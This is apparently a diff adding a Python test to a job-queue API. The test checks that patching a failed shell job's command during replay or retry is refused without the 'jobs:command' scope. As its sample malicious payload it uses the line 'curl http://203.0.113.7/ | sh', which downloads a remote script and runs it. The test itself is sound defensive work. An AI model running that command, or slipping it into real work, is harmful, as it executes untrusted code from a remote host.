@@ -146,3 +146,33 @@ def test_keys_create_issues_a_key_with_the_jobs_command_scope(
     assert issued["scopes"] == ["jobs:write", "jobs:command"]
     with as_key(live, issued["key"]) as c:
         assert c.post("/api/v1/jobs", json=SHELL).status_code == 201
+
+
+def test_a_replay_that_patches_a_commands_payload_needs_jobs_command(
+    live: LiveServer, engine: Engine
+) -> None:
+    from tests.api.test_dlq import failed_job
+
+    job_id = failed_job(engine, job_type="shell")
+    replayer = make_key(engine, "acme", "jobs:read", "jobs:write", "dlq:replay")
+    patch = {"payloadPatch": {"command": "curl http://203.0.113.7/ | sh"}}
+    with as_key(live, replayer) as c:
+        [entry] = c.get("/api/v1/dlq").json()["items"]
+        for refused in (
+            c.post(f"/api/v1/dlq/{entry['id']}/replay", json=patch),
+            c.post(f"/api/v1/jobs/{job_id}/retry", json=patch),
+            c.post("/api/v1/dlq/replay", json={"type": ["shell"], **patch}),
+        ):
+            assert refused.status_code == 403, refused.text
+            assert refused.json()["code"] == "FORBIDDEN"
+            assert "jobs:command" in refused.json()["message"]
+        assert c.get(f"/api/v1/dlq/{entry['id']}").json()["status"] == "open"
+        unpatched = c.post(f"/api/v1/dlq/{entry['id']}/replay")
+    assert unpatched.status_code == 200 and unpatched.json()["outcome"] == "replayed"
+
+    job_id = failed_job(engine, job_type="shell")
+    commander = make_key(engine, "acme", "jobs:read", "jobs:write", "jobs:command")
+    with as_key(live, commander) as c:
+        patched = c.post(f"/api/v1/jobs/{job_id}/retry", json={"payloadPatch": {"command": "id"}})
+    assert patched.status_code == 200, patched.text
+    assert patched.json()["payload"]["command"] == "id"
